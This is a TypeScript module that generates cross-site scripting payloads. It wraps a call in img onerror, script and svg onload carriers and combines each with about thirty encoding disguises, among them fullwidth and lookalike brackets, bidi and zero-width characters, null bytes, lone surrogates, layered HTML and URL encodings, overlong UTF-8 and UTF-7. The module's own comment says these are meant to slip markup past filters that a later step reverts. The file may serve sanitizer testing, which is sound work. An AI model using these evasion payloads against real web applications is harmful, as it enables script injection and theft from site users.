import { combineAll, type Shape, toEntities } from './shape'

const carriers: readonly Shape[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<svg onload=${call}>`,
]

const wide = (text: string) =>
  text.replace(/[!-~]/gu, (character) => String.fromCodePoint((character.codePointAt(0) ?? 0) + 0xfee0))
const hex = (prefix: string, length: number) => (text: string) =>
  text.replace(
    /[<>]/gu,
    (character) => prefix + (character.codePointAt(0) ?? 0).toString(16).padStart(length, '0'),
  )

/** Disguises of markup that a filter does not recognise and a later processing step reverts. */
const disguises: readonly ((text: string) => string)[] = [
  wide,
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '﹤').replaceAll('>', '﹥'),
  (text) => text.replaceAll('<', '≮').replaceAll('>', '≯'),
  (text) => text.replaceAll('<', '<\u0338').replaceAll('>', '>\u0338'),
  (text) => text.replaceAll('<', '‹').replaceAll('>', '›'),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2066${text}\u2069`,
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replace(/(?<=<\w)/gu, '\u200d'),
  (text) => text.replace('i', 'ı').replace('s', 'ſ'),
  (text) => text.replaceAll('<', '<\0'),
  (text) => text.replace(/(?<=<\w\w)/u, '\0'),
  (text) => `\ud800${text}`,
  (text) => text.replaceAll('>', '>\udc00'),
  (text) => `\u2028${text}\u2029`,
  (text) => `\ufeff${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replace(/[<>]/gu, toEntities),
  (text) => text.replace(/[<>]/gu, (character) => `&#x0${character.codePointAt(0)?.toString(16)}`),
  hex('\\u', 4),
  hex('\\x', 2),
  hex('%', 2),
  hex('%25', 2),
  hex('%u', 4),
  (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\\74').replaceAll('>', '\\76'),
  (text) => text.replace(/<(\w\w)/u, `<$1<${text.slice(1, 3)}`),
]

/** Disguised markup. */
export const disguiseShapes: readonly Shape[] = combineAll(
  disguises,
  carriers,
  (disguise, carrier): Shape =>
    (...run) =>
      disguise(carrier(...run)),
)
